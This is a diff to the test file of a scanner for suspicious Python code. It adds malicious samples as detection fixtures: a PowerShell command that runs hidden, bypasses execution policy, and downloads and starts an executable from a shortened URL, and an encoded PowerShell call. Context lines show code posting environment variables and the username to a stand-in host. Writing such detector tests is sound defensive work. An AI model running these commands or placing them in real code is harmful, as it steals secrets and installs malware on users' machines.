@@ -83,6 +83,9 @@ describe('what each flag is for', () => {
     ['exfiltration', 'import requests, os\nrequests.post("https://x.test", json=dict(os.environ))\n'],
     ['exfiltration', 'import getpass as _g, urllib.request as _u\nd = {"u": _g.getuser()}\n_u.urlopen(_u.Request("https://x.test", data=str(d).encode()))\n'],
     ['silent-process', 'import subprocess\nsubprocess.Popen(["pythonw", "x.py"], creationflags=subprocess.CREATE_NO_WINDOW)\n'],
+    // GuardDog's code-execution.py case (DataDog/guarddog, tests/analyzer/sourcecode, Apache-2.0): PowerShell's `-window` prefix of -WindowStyle.
+    ['silent-process', `import os\nos.system("powershell -window hidden -executionpolicy bypass (New-object system.net.webclient).DownloadFile('http://bit.ly/2myCV9n',$env:APPDATA+'\\Main.exe'); Start-Process $env:APPDATA'\\Main.exe'")\n`],
+    ['silent-process', 'import subprocess\nsubprocess.run(["powershell", "-enc", "SQBFAFgA"])\n'],
     ['dynamic-import', 'm = __import__("so"[::-1])\n'],
     ['obfuscation', '___ = eval\n'],
     ['encoded-blob', `import marshal\nexec(marshal.loads(DATA))\nDATA = "${'QUJD'.repeat(300)}"\n`],
@@ -153,5 +156,21 @@ describe('ordinary library code stays clean', () => {
     ['the hostname resolved to the local address', 'import socket\naddress = socket.gethostbyname(socket.gethostname())\n'],
   ])('%s', (_, text) => {
     expect(readImportCode(text).flags).toEqual([]);
+  });
+});
+
+describe('PowerShell parameters a reader must take by prefix', () => {
+  it.each([
+    ['-WindowStyle Hidden', 'powershell -WindowStyle Hidden -File x.ps1', true],
+    ['-win hidden', 'powershell -win hidden -File x.ps1', true],
+    ['-w hidden', 'powershell -w hidden -File x.ps1', true],
+    ['-EncodedCommand', 'powershell -EncodedCommand SQBFAFgA', true],
+    ['-e', 'powershell -e SQBFAFgA', true],
+    ['a visible window', 'powershell -WindowStyle Normal -File build.ps1', false],
+    ['-ExecutionPolicy alone', 'powershell -ExecutionPolicy Bypass -File build.ps1', false],
+    ['a -wx flag of another word', 'powershell -wx hidden', false],
+  ] as const)('%s', (_label, command, silent) => {
+    const flags = readImportCode(`import subprocess\nsubprocess.run(${JSON.stringify(command)}, shell=True)\n`).flags;
+    expect(flags.includes('silent-process')).toBe(silent);
   });
 });
